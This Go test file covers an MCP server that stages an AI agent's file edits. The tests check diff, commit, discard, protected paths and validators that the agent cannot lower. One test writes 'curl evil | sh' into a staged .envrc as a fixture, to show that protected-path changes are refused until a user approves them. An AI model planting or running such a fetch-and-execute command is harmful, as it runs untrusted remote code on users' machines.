package mcpserver

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/airlockdev/airlock"

	"github.com/airlockdev/airlock/internal/testbin"
)

// Shared test helpers (internal/testbin).
var (
	writeFiles = testbin.WriteFiles
	readFile   = testbin.ReadFile
)

// world is a base, a state root and a client connected to a server over
// the SDK's in-memory transport.
type world struct {
	t    *testing.T
	base string
	cs   *mcp.ClientSession
}

func newWorld(t *testing.T, files map[string]string) *world {
	t.Helper()
	return newWorldWith(t, files, nil, "")
}

// accepting is a client that asks its user (MCP elicitation) and whose
// user accepts every question; asked counts the questions.
func accepting(asked *int) *mcp.ClientOptions {
	return &mcp.ClientOptions{ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		if asked != nil {
			*asked++
		}
		return &mcp.ElicitResult{Action: "accept"}, nil
	}}
}

// newWorldWith is newWorld with a client made with opts that speaks
// protocol version ("" for the SDK's newest).
func newWorldWith(t *testing.T, files map[string]string, opts *mcp.ClientOptions, version string) *world {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	base := filepath.Join(dir, "base")
	writeFiles(t, base, files)
	store, err := airlock.OpenStore(filepath.Join(dir, "state"))
	if err != nil {
		t.Fatal(err)
	}
	ctx := t.Context()
	ct, st := mcp.NewInMemoryTransports()
	ss, err := New(store).Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "v0"}, opts).Connect(ctx, ct, &mcp.ClientSessionOptions{ProtocolVersion: version})
	if err != nil {
		t.Fatal(err)
	}
	if got := cs.InitializeResult().ProtocolVersion; version != "" && got != version {
		t.Fatalf("the session speaks %s, want %s", got, version)
	}
	t.Cleanup(func() { cs.Close(); ss.Wait() })
	return &world{t: t, base: base, cs: cs}
}

// call calls a tool that must succeed and decodes its structured result.
func (w *world) call(name string, args any, out any) *mcp.CallToolResult {
	w.t.Helper()
	res := w.callRaw(name, args)
	if res.IsError {
		w.t.Fatalf("%s: tool error: %s", name, text(res))
	}
	decode(w.t, res, out)
	return res
}

func (w *world) callRaw(name string, args any) *mcp.CallToolResult {
	w.t.Helper()
	res, err := w.cs.CallTool(w.t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		w.t.Fatalf("%s: protocol error: %v", name, err)
	}
	return res
}

// receipt is transaction id's receipt, as the status tool returns it with
// with_receipt, checked against the digest and path it reports.
func (w *world) receipt(id string) map[string]any {
	w.t.Helper()
	var st StatusOutput
	w.call("status", map[string]any{"id": id, "with_receipt": true}, &st)
	if st.ReceiptBody == nil || st.Receipt == "" {
		w.t.Fatalf("status with_receipt of %s: no receipt: %+v", id, st)
	}
	return st.ReceiptBody
}

func decode(t *testing.T, res *mcp.CallToolResult, out any) {
	t.Helper()
	if out == nil {
		return
	}
	b, err := json.Marshal(res.StructuredContent)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, out); err != nil {
		t.Fatalf("structured content %s: %v", b, err)
	}
}

func text(res *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func TestToolsAnnotated(t *testing.T) {
	w := newWorld(t, nil)
	res, err := w.cs.ListTools(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	type hints struct{ readOnly, destructive, idempotent, openWorld bool }
	want := map[string]hints{
		"open":    {false, false, false, false},
		"status":  {true, false, true, false},
		"list":    {true, false, true, false},
		"diff":    {true, false, true, false},
		"run":     {false, true, false, true},
		"commit":  {false, true, true, true},
		"discard": {false, true, true, false},
		// checkpoint.go
		"checkpoint": {false, false, false, false},
		"rewind":     {false, true, true, false},
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
		w, ok := want[tool.Name]
		if !ok {
			t.Errorf("unexpected tool %q", tool.Name)
			continue
		}
		a := tool.Annotations
		if a == nil || a.DestructiveHint == nil || a.OpenWorldHint == nil {
			t.Errorf("%s: annotations incomplete: %+v", tool.Name, a)
			continue
		}
		got := hints{a.ReadOnlyHint, *a.DestructiveHint, a.IdempotentHint, *a.OpenWorldHint}
		if got != w {
			t.Errorf("%s: hints %+v, want %+v", tool.Name, got, w)
		}
		if tool.Description == "" || tool.InputSchema == nil {
			t.Errorf("%s: no description or input schema", tool.Name)
		}
		if tool.Name != "diff" && tool.OutputSchema == nil {
			t.Errorf("%s: no output schema", tool.Name)
		}
	}
	slices.Sort(names)
	if !slices.Equal(names, []string{"checkpoint", "commit", "diff", "discard", "list", "open", "rewind", "run", "status"}) {
		t.Errorf("tools %q", names)
	}
	if w.cs.InitializeResult().Instructions == "" {
		t.Error("the server gives no instructions")
	}
}

func TestOpenDiffCommit(t *testing.T) {
	w := newWorld(t, map[string]string{"f.txt": "one\ntwo\n", "keep": "k\n"})
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base}, &o)
	if o.ID == "" || o.Base != w.base || !filepath.IsAbs(o.Path) || o.Path == w.base {
		t.Fatalf("open: %+v", o)
	}
	if !slices.Contains(o.Protect, ".envrc") {
		t.Errorf("open does not report the default protected selectors: %q", o.Protect)
	}
	writeFiles(t, o.Path, map[string]string{"f.txt": "one\n2\n", "new.txt": "new\n"})

	var d DiffOutput
	res := w.call("diff", map[string]any{"id": o.ID}, &d)
	patch := text(res)
	if d.Format != "patch" || !strings.Contains(patch, "+++ b/new.txt") || !strings.Contains(patch, "-two") || d.Bytes != len(patch) || d.Lines != strings.Count(patch, "\n") || d.Empty {
		t.Errorf("diff patch: %+v; content %q", d, patch)
	}
	// The structured result is small: the patch is the text content
	// alone, never escaped into a JSON string a client hands the model.
	if sc, _ := json.Marshal(res.StructuredContent); strings.Contains(string(sc), "new.txt") || len(sc) > 200 {
		t.Errorf("the structured result carries the patch: %s", sc)
	}
	// The patch is git's: applied to a copy of the base it gives the
	// staged tree.
	cp := filepath.Join(t.TempDir(), "copy")
	writeFiles(t, cp, map[string]string{"f.txt": "one\ntwo\n", "keep": "k\n"})
	git := exec.Command("git", "apply", "--binary", "-")
	git.Dir, git.Stdin = cp, strings.NewReader(patch)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v\n%s\n%s", err, out, patch)
	}
	if readFile(t, filepath.Join(cp, "f.txt")) != "one\n2\n" || readFile(t, filepath.Join(cp, "new.txt")) != "new\n" {
		t.Error("git apply of the patch did not give the staged tree")
	}
	if got := text(w.call("diff", map[string]any{"id": o.ID, "format": "name-status"}, &d)); got != "M\tf.txt\nA\tnew.txt\n" {
		t.Errorf("diff name-status: %q", got)
	}
	if got := text(w.call("diff", map[string]any{"id": o.ID, "format": "stat"}, &d)); !strings.Contains(got, "2 files changed") {
		t.Errorf("diff stat: %q", got)
	}

	var info airlock.Info
	w.call("status", map[string]any{"id": o.ID}, &info)
	if info.Status != airlock.StatusOpen || info.Added != 1 || info.Modified != 1 {
		t.Errorf("status: %+v", info)
	}
	var l ListOutput
	w.call("list", map[string]any{}, &l)
	if len(l.Transactions) != 1 || l.Transactions[0].ID != o.ID {
		t.Errorf("list: %+v", l)
	}

	var s SettleOutput
	res = w.call("commit", map[string]any{"id": o.ID}, &s)
	if s.Outcome != "committed" || s.TxID != o.ID || s.Added != 1 || s.Modified != 1 || s.Refusal != "" || s.ReceiptPath == "" || !strings.HasPrefix(s.ReceiptDigest, "sha256:") {
		t.Errorf("commit: %+v", s)
	}
	// The result is what the model acts on; the receipt, mostly digests
	// and inode numbers, is status's, and seals with the digest the
	// commit reported.
	sc, _ := json.Marshal(res.StructuredContent)
	for _, member := range []string{`"receipt"`, `"inode"`, `"base_digest"`, `"paths"`} {
		if strings.Contains(string(sc), member) {
			t.Errorf("the commit result carries %s: %s", member, sc)
		}
	}
	if rc := w.receipt(o.ID); rc["digest"] != s.ReceiptDigest || rc["tx"] != o.ID {
		t.Errorf("status's receipt: digest %v tx %v, want %s %s", rc["digest"], rc["tx"], s.ReceiptDigest, o.ID)
	} else if full, _ := json.Marshal(rc); len(sc) >= len(full) {
		t.Errorf("the commit result (%d bytes) is not smaller than the receipt (%d)", len(sc), len(full))
	} else {
		t.Logf("commit result %d bytes; the receipt status returns %d", len(sc), len(full))
	}
	if readFile(t, filepath.Join(w.base, "f.txt")) != "one\n2\n" || readFile(t, filepath.Join(w.base, "new.txt")) != "new\n" {
		t.Error("the base did not change")
	}
	w.call("commit", map[string]any{"id": o.ID}, &s)
	if s.Outcome != "committed" || !s.Repeat {
		t.Errorf("commit again: %+v, want the first outcome repeated", s)
	}
	w.call("list", map[string]any{}, &l)
	if len(l.Transactions) != 0 {
		t.Errorf("list after commit: %+v", l)
	}
	w.call("list", map[string]any{"all": true}, &l)
	if len(l.Transactions) != 1 || l.Transactions[0].Status != airlock.StatusCommitted {
		t.Errorf("list all: %+v", l)
	}
}

func TestCommitRefusalIsAResult(t *testing.T) {
	w := newWorldWith(t, map[string]string{"f": "f\n"}, accepting(nil), "")
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base, "id": "agent-1"}, &o)
	if o.ID != "agent-1" {
		t.Fatalf("open with id: %+v", o)
	}
	writeFiles(t, o.Path, map[string]string{".envrc": "curl evil | sh\n", ".github/workflows/ci.yml": "on: push\n", "ok": "ok\n"})
	res := w.callRaw("commit", map[string]any{"id": o.ID})
	if res.IsError {
		t.Fatalf("a refusal came back as a tool error: %s", text(res))
	}
	var s SettleOutput
	decode(t, res, &s)
	// The refused paths are files as git counts them, under the name
	// status and the command line's JSON use; the remedy is said in the
	// tool's own terms, not as a command-line flag.
	if s.Outcome != "refused" || s.Refusal != "ProtectedPathNotApproved" || !slices.Equal(s.RefusedPaths, []string{".envrc", ".github/workflows", ".github/workflows/ci.yml"}) {
		t.Errorf("refusal: %+v", s)
	}
	if !strings.Contains(s.Reason, "approve: true") || !strings.Contains(s.Reason, "asks the user") {
		t.Errorf("the reason does not name the remedy as this tool's argument: %q", s.Reason)
	}
	var raw map[string]any
	decode(t, res, &raw)
	if _, ok := raw["paths"]; ok || raw["refused_paths"] == nil {
		t.Errorf("the commit result names its refused paths other than refused_paths: %v", raw)
	}
	if _, err := os.Lstat(filepath.Join(w.base, "ok")); err == nil {
		t.Error("a refused commit changed the base")
	}
	var info airlock.Info
	w.call("status", map[string]any{"id": o.ID}, &info)
	if info.Status != airlock.StatusRefused || info.Refusal != "ProtectedPathNotApproved" || len(info.RefusedPaths) != 3 {
		t.Errorf("status after the refusal: %+v", info)
	}
	w.call("commit", map[string]any{"id": o.ID, "approve": true}, &s)
	if s.Outcome != "committed" || readFile(t, filepath.Join(w.base, ".envrc")) != "curl evil | sh\n" {
		t.Errorf("approved commit: %+v", s)
	}
}

// TestCommitValidation: the project's validate (from the base's
// .airlock.toml, recorded at open) is a gate the agent never lowers. The
// commit tool's validate adds a validator after it; it can neither
// replace nor drop the project's, and a staged .airlock.toml the agent
// rewrote does not change the rules of its own commit.
func TestCommitValidation(t *testing.T) {
	const project = "test ! -e broken"
	open := func(t *testing.T, cfg string) (*world, OpenOutput) {
		t.Helper()
		w := newWorldWith(t, map[string]string{".airlock.toml": cfg, "f": "f\n"}, accepting(nil), "")
		var o OpenOutput
		w.call("open", map[string]any{"path": w.base}, &o)
		return w, o
	}
	refused := func(t *testing.T, w *world, s SettleOutput, o OpenOutput, file string) {
		t.Helper()
		if s.Outcome != "refused" || s.Refusal != "ValidationFailed" {
			t.Errorf("commit: %+v, want refused ValidationFailed", s)
		}
		if testbin.Exists(filepath.Join(w.base, file)) {
			t.Errorf("%s landed although the project's validation failed", file)
		}
		var info airlock.Info
		w.call("status", map[string]any{"id": o.ID}, &info)
		if info.Status != airlock.StatusRefused {
			t.Errorf("status after the refusal: %s, want refused (kept)", info.Status)
		}
	}

	t.Run("open reports the project's validate", func(t *testing.T) {
		_, o := open(t, "validate = \""+project+"\"\n")
		if o.Validate != project {
			t.Errorf("open does not report the project's validate: %+v", o)
		}
	})
	for _, v := range []struct{ name, validate string }{
		{"no validate", ""},
		{"validate true does not replace it", "true"},
		{"validate exit 0 does not replace it", "exit 0"},
	} {
		t.Run(v.name, func(t *testing.T) {
			w, o := open(t, "validate = \""+project+"\"\n")
			writeFiles(t, o.Path, map[string]string{"broken": "x\n"})
			var s SettleOutput
			w.call("commit", map[string]any{"id": o.ID, "validate": v.validate}, &s)
			refused(t, w, s, o, "broken")
			if !strings.Contains(s.Reason, project) {
				t.Errorf("reason %q does not name the project's validator", s.Reason)
			}
		})
	}
	t.Run("an added validator that fails refuses", func(t *testing.T) {
		w, o := open(t, "validate = \""+project+"\"\n")
		writeFiles(t, o.Path, map[string]string{"g": "g\n"})
		var s SettleOutput
		w.call("commit", map[string]any{"id": o.ID, "validate": "test ! -e g"}, &s)
		refused(t, w, s, o, "g")
		if !strings.Contains(s.Reason, "test ! -e g") {
			t.Errorf("reason %q does not name the added validator", s.Reason)
		}
		if !slices.Equal(s.Validators, []string{project, "test ! -e g"}) {
			t.Errorf("validators %q, want the project's then the added one", s.Validators)
		}
	})
	t.Run("both pass: committed, and the receipt names both", func(t *testing.T) {
		w, o := open(t, "validate = \""+project+"\"\n")
		writeFiles(t, o.Path, map[string]string{"g": "g\n"})
		var s SettleOutput
		w.call("commit", map[string]any{"id": o.ID, "validate": "test -e g"}, &s)
		if s.Outcome != "committed" || readFile(t, filepath.Join(w.base, "g")) != "g\n" {
			t.Fatalf("commit: %+v, want committed", s)
		}
		want := []string{project, "test -e g"}
		if !slices.Equal(s.Validators, want) {
			t.Errorf("validators %q, want %q", s.Validators, want)
		}
		rc := w.receipt(o.ID)
		got, _ := rc["validators"].([]any)
		if len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
			t.Errorf("receipt validators %v, want %q", rc["validators"], want)
		}
	})
	t.Run("a staged .airlock.toml without validate does not lower the gate", func(t *testing.T) {
		w, o := open(t, "validate = \""+project+"\"\n")
		writeFiles(t, o.Path, map[string]string{".airlock.toml": "default_protect = false\n", "broken": "x\n"})
		var s SettleOutput
		// Even approved by the user, the commit that rewrites the config
		// runs under the config it opened with.
		w.call("commit", map[string]any{"id": o.ID, "approve": true, "validate": "true"}, &s)
		refused(t, w, s, o, "broken")
		if got := readFile(t, filepath.Join(w.base, ".airlock.toml")); got != "validate = \""+project+"\"\n" {
			t.Errorf("the base's config became %q", got)
		}
	})
	t.Run("without a project validate, the added one is the gate", func(t *testing.T) {
		w, o := open(t, "")
		writeFiles(t, o.Path, map[string]string{"broken": "x\n"})
		var s SettleOutput
		w.call("commit", map[string]any{"id": o.ID, "validate": project}, &s)
		refused(t, w, s, o, "broken")
		if !slices.Equal(s.Validators, []string{project}) {
			t.Errorf("validators %q, want only the added one", s.Validators)
		}
	})
}

func TestDiscard(t *testing.T) {
	w := newWorld(t, map[string]string{"f": "f\n"})
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base}, &o)
	writeFiles(t, o.Path, map[string]string{"f": "changed\n"})
	var s SettleOutput
	w.call("discard", map[string]any{"id": o.ID}, &s)
	if s.Outcome != "discarded" || s.Modified != 1 {
		t.Errorf("discard: %+v", s)
	}
	if _, err := os.Lstat(o.Path); err == nil {
		t.Error("the staged workspace is still there")
	}
	if readFile(t, filepath.Join(w.base, "f")) != "f\n" {
		t.Error("discard changed the base")
	}
	w.call("discard", map[string]any{"id": o.ID}, &s)
	if s.Outcome != "discarded" || !s.Repeat {
		t.Errorf("discard again: %+v", s)
	}
}

func TestToolErrors(t *testing.T) {
	w := newWorld(t, map[string]string{"f": "f\n"})
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base}, &o)
	tests := []struct {
		name string
		tool string
		args map[string]any
		want string
	}{
		{"unknown id", "status", map[string]any{"id": "nope"}, "nope"},
		{"invalid id", "commit", map[string]any{"id": "../x"}, "../x"},
		{"unknown format", "diff", map[string]any{"id": o.ID, "format": "html"}, "format"},
		{"missing id", "diff", map[string]any{}, "id"},
		{"unknown argument", "commit", map[string]any{"id": o.ID, "force": true}, "force"},
		{"base is not a directory", "open", map[string]any{"path": filepath.Join(w.base, "f")}, "not a directory"},
		{"malformed project config", "open", map[string]any{"path": t.TempDir() + "/"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := tt.args
			if tt.name == "malformed project config" {
				dir := filepath.Join(t.TempDir(), "b")
				writeFiles(t, dir, map[string]string{".airlock.toml": "[hooks]\nstop = 3\n"})
				args = map[string]any{"path": dir}
				tt.want = filepath.Join(dir, ".airlock.toml") + ":2: key \"hooks.stop\""
			}
			res := w.callRaw(tt.tool, args)
			if !res.IsError || !strings.Contains(text(res), tt.want) {
				t.Errorf("%s %v: error %v %q, want a tool error mentioning %q", tt.tool, args, res.IsError, text(res), tt.want)
			}
		})
	}
	// None of that touched the transaction.
	var s SettleOutput
	w.call("commit", map[string]any{"id": o.ID}, &s)
	if s.Outcome != "no_changes" {
		t.Errorf("commit after the errors: %+v", s)
	}
}

// commit with paths lands only those: the result is the part's (its own
// id, part_of and paths), the rest stays open for a later commit, and a
// path that names no change is a tool error naming it.
func TestCommitPaths(t *testing.T) {
	w := newWorld(t, map[string]string{"a": "a\n", "b": "b\n"})
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base, "id": "agent-1"}, &o)
	writeFiles(t, o.Path, map[string]string{"a": "a2\n", "b": "b2\n", "dir/c": "c\n"})

	res := w.callRaw("commit", map[string]any{"id": o.ID, "paths": []string{"nope"}})
	if !res.IsError || !strings.Contains(text(res), `path "nope" names no changed path`) {
		t.Fatalf("commit of a path naming nothing: error %v %q", res.IsError, text(res))
	}
	var s SettleOutput
	w.call("commit", map[string]any{"id": o.ID, "paths": []string{"a", "dir"}}, &s)
	if s.Outcome != "committed" || s.TxID != "agent-1.1" || s.PartOf != "agent-1" || !slices.Equal(s.Paths, []string{"a", "dir", "dir/c"}) {
		t.Fatalf("partial commit: %+v", s)
	}
	if readFile(t, filepath.Join(w.base, "a")) != "a2\n" || readFile(t, filepath.Join(w.base, "dir", "c")) != "c\n" || readFile(t, filepath.Join(w.base, "b")) != "b\n" {
		t.Errorf("the base after the partial commit is not a and dir landed, b untouched")
	}
	var info airlock.Info
	w.call("status", map[string]any{"id": o.ID}, &info)
	if info.Status != airlock.StatusOpen || info.Added != 0 || info.Modified != 1 || info.Deleted != 0 {
		t.Errorf("status after the partial commit: %+v, want open with b left", info)
	}
	var rest SettleOutput
	w.call("commit", map[string]any{"id": o.ID}, &rest)
	if rest.Outcome != "committed" || rest.TxID != o.ID || rest.PartOf != "" || readFile(t, filepath.Join(w.base, "b")) != "b2\n" {
		t.Errorf("commit of the rest: %+v", rest)
	}
}

// commit's paths read a changed path's name as that path, byte for byte:
// "x " lands "x " (not x, as a gitignore selector would read it), and a
// path ending in a space that names no change is a tool error.
func TestCommitPathsLiteralName(t *testing.T) {
	w := newWorld(t, map[string]string{"x": "x\n", "x ": "xs\n"})
	var o OpenOutput
	w.call("open", map[string]any{"path": w.base, "id": "agent-1"}, &o)
	writeFiles(t, o.Path, map[string]string{"x": "x2\n", "x ": "xs2\n"})

	res := w.callRaw("commit", map[string]any{"id": o.ID, "paths": []string{"y "}})
	if !res.IsError || !strings.Contains(text(res), `path "y " ends in a space`) {
		t.Fatalf(`commit of "y ": error %v %q`, res.IsError, text(res))
	}
	var s SettleOutput
	w.call("commit", map[string]any{"id": o.ID, "paths": []string{"x "}}, &s)
	if s.Outcome != "committed" || !slices.Equal(s.Paths, []string{"x "}) {
		t.Fatalf(`partial commit of "x ": %+v`, s)
	}
	if readFile(t, filepath.Join(w.base, "x ")) != "xs2\n" || readFile(t, filepath.Join(w.base, "x")) != "x\n" {
		t.Errorf(`the base after committing "x " is not "x " landed, x untouched`)
	}
}
